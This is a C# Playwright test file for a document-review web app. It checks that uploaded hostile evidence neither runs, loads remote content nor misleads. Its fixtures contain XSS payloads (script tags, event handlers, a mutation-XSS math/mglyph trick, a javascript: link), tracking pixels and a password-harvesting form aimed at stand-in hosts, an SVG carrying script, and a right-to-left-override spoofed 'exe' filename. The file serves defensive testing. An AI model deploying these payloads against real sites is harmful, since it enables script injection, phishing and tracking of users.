using System.Collections.Concurrent;
using System.IO.Compression;
using System.Text;
using Dossier.Web.Tests.Setup;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Dossier.Web.Tests;

/// <summary>Evidence that was made to harm whoever looks at it.</summary>
[Collection(Site.Name)]
public sealed class HostileContentTests(Site site)
{
    private const int Minutes = 60_000;
    private const string Spoofed = "invoice\u202Efdp.exe.txt";
    private const string Html = """
        <html><head><style>body{display:none} @import url(http://tracker.example/style.css);</style>
        <link rel="stylesheet" href="http://tracker.example/linked.css"><base href="http://tracker.example/">
        <meta http-equiv="refresh" content="0;url=http://tracker.example/refresh">
        <script>top.stolen = 1; fetch('http://tracker.example/script')</script></head>
        <body onload="top.stolen = 2" style="background:url(http://tracker.example/background.png)">
        <p>Dear reviewer, the visible words.</p>
        <img src="http://tracker.example/pixel.gif" width="1" height="1" onerror="top.stolen = 3">
        <img src="x" srcset="http://tracker.example/srcset.gif 2x" onerror="top.stolen = 4">
        <img src="/pages/v1/session"><picture><source srcset="http://tracker.example/source.gif"></picture>
        <svg onload="top.stolen = 5"><script>top.stolen = 6</script><image href="http://tracker.example/svg.png"/></svg>
        <math><mtext><table><mglyph><style><img src=x onerror="top.stolen = 7"></style></mglyph></table></mtext></math>
        <iframe src="http://tracker.example/frame"></iframe><object data="http://tracker.example/object"></object>
        <form action="http://tracker.example/form"><input name="password"><button>Sign in again</button></form>
        <a href="http://evil.example/login" target="_top">https://bank.example/</a> <a href="javascript:top.stolen = 8">click</a>
        <video src="http://tracker.example/film.mp4" autoplay poster="http://tracker.example/poster.png"></video>
        </body></html>
        """;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact(Timeout = 2 * Minutes)]
    public async Task Hostile_content_neither_runs_nor_loads_nor_misleads()
    {
        var workspace = await site.Server.NewWorkspace("Hostile", "hostile.zip", await Archive(), Cancel);
        await using var admin = await site.Visit();
        var asked = new ConcurrentQueue<string>();
        var talked = new ConcurrentQueue<string>();
        admin.Context.Request += (_, request) => asked.Enqueue(request.Url);
        admin.Page.Dialog += (_, dialog) => talked.Enqueue(dialog.Message);
        await admin.Page.GotoAsync($"/workspaces/{workspace}/review");
        await admin.SignIn(Server.AdministratorEmail);
        await Expect(admin.Page.GetByRole(AriaRole.Grid)).ToBeVisibleAsync();

        await Open(admin, workspace, "kind:email");
        var frame = admin.Page.FrameLocator("iframe.html");
        await Expect(frame.GetByText("Dear reviewer, the visible words.")).ToBeVisibleAsync();
        await Expect(admin.Page.GetByText("from elsewhere not loaded")).ToBeVisibleAsync();
        await admin.Look("hostile-mail");
        // Where a link would lead is said, and it leads nowhere.
        await Expect(frame.GetByText("https://bank.example/ ‹http://evil.example/login›")).ToBeVisibleAsync();
        await Expect(frame.Locator("a[href], form, input, svg, iframe, object, video, style, base, [style], [onload], [onerror]"))
            .ToHaveCountAsync(0);
        Assert.Equal("", await admin.Page.Locator("iframe.html").GetAttributeAsync("sandbox"));

        await Open(admin, workspace, "extension:html");
        await Expect(frame.GetByText("Dear reviewer, the visible words.")).ToBeVisibleAsync();
        await Open(admin, workspace, "extension:svg");
        await Expect(admin.Page.GetByText("no page view here")).ToBeVisibleAsync();
        Assert.Equal(0, await admin.Page.Locator(".viewer img").CountAsync());

        // A file opened by its address is saved, or shown without any right.
        var file = await admin.Page.APIRequest.GetAsync(
            $"/pages/v1/workspaces/{workspace}/documents/{await Number(workspace, "extension:svg")}/file"
        );
        Assert.Equal("default-src 'none'; sandbox", file.Headers["content-security-policy"]);
        Assert.Equal("nosniff", file.Headers["x-content-type-options"]);
        Assert.StartsWith("attachment", file.Headers["content-disposition"], StringComparison.Ordinal);

        // A name whose end is turned round shows what turns it.
        await admin.Page.GotoAsync($"/workspaces/{workspace}/review?doc={await Number(workspace, "extension:txt")}");
        await Expect(admin.Page.Locator(".viewer h2")).ToContainTextAsync("invoice[U+202E]fdp.exe.txt");
        Assert.DoesNotContain('\u202E', await admin.Page.Locator(".grid").InnerTextAsync());

        Assert.Equal(1, await admin.Page.EvaluateAsync<int>("typeof window.stolen === 'undefined' ? 1 : 0"));
        Assert.Empty(talked);
        Assert.All(
            asked,
            url =>
                Assert.True(
                    url.StartsWith(site.Server.Address.OriginalString, StringComparison.Ordinal)
                        || url.StartsWith("data:", StringComparison.Ordinal)
                        || url == "about:srcdoc",
                    url
                )
        );
        // What is taken out of it is refused already while it is looked for.
        Assert.All(admin.Complaints, told => Assert.Contains("Content Security Policy", told, StringComparison.Ordinal));
    }

    [Fact(Timeout = Minutes)]
    public async Task Pages_run_nothing_but_their_own_files()
    {
        await using var visitor = await site.Visit();
        var page = await visitor.Page.GotoAsync("/sign-in");
        var policy = page!.Headers["content-security-policy"];
        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe", policy, StringComparison.Ordinal);
        Assert.Contains("frame-ancestors 'none'", policy, StringComparison.Ordinal);
        Assert.Equal("no-cache", page.Headers["cache-control"]);
        await visitor.Page.EvaluateAsync(
            "() => { const one = document.createElement('script'); one.textContent = 'window.ran = 1'; document.body.append(one); }"
        );
        Assert.True(await visitor.Page.EvaluateAsync<bool>("window.ran === undefined"));
        Assert.Single(visitor.Complaints);
        var asset = await visitor.Page.Locator("script[src]").GetAttributeAsync("src");
        var script = await visitor.Page.APIRequest.GetAsync(asset!);
        Assert.Contains("immutable", script.Headers["cache-control"], StringComparison.Ordinal);
        Assert.Equal(404, (await visitor.Page.APIRequest.GetAsync("/assets/..%2findex.html")).Status);
    }

    private static async Task Open(Visitor admin, long workspace, string query)
    {
        await admin.Page.GotoAsync($"/workspaces/{workspace}/review?tab=original&query={Uri.EscapeDataString(query)}");
        await admin.Page.GetByRole(AriaRole.Grid).PressAsync("Home");
    }

    private async Task<long> Number(long workspace, string query)
    {
        var found = await site.Server.Ask(
            HttpMethod.Get,
            $"/workspaces/{workspace}/documents?query={Uri.EscapeDataString(query)}",
            null,
            Cancel
        );
        return found.GetProperty("items")[0].GetProperty("number").GetInt64();
    }

    private static async Task<byte[]> Archive()
    {
        var mail =
            "From: \"Bank\" <a@evil.example>\r\nTo: b@test.example\r\nSubject: Look\r\nMIME-Version: 1.0\r\nDate: Tue, 16 Oct 2001 09:00:00 +0000\r\n"
            + $"Content-Type: text/html; charset=utf-8\r\n\r\n{Html.ReplaceLineEndings("\r\n")}";
        const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.stolen = 9\"><script>top.stolen = 10</script></svg>";
        using var memory = new MemoryStream();
        await using (var zip = await ZipArchive.CreateAsync(memory, ZipArchiveMode.Create, leaveOpen: true, null, Cancel))
        {
            foreach (var (name, text) in new[] { ("look.eml", mail), ("page.html", Html), ("picture.svg", Svg), (Spoofed, "An invoice.") })
            {
                await using var entry = await zip.CreateEntry(name).OpenAsync(Cancel);
                await entry.WriteAsync(Encoding.UTF8.GetBytes(text), Cancel);
            }
        }

        return memory.ToArray();
    }
}
